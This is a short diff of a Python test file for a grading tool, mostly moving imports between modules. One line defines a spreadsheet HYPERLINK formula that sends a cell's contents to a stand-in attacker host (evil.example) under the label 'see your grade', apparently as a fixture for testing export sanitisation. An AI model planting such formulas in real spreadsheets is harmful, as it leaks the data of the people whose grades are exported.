@@ -11,9 +11,10 @@ import pytest
 
 from grader import batch
 from grader.config.manifest import ClassRules
-from grader.grading.results import CheckResult, SubmissionResult
 from grader.reports import classreport, classview, report
-from grader.store import exports, gradebook
+from grader.reports import exports
+from grader.results import CheckResult, SubmissionResult
+from grader.store import gradebook
 from test_reports import Markup
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"see your grade")'
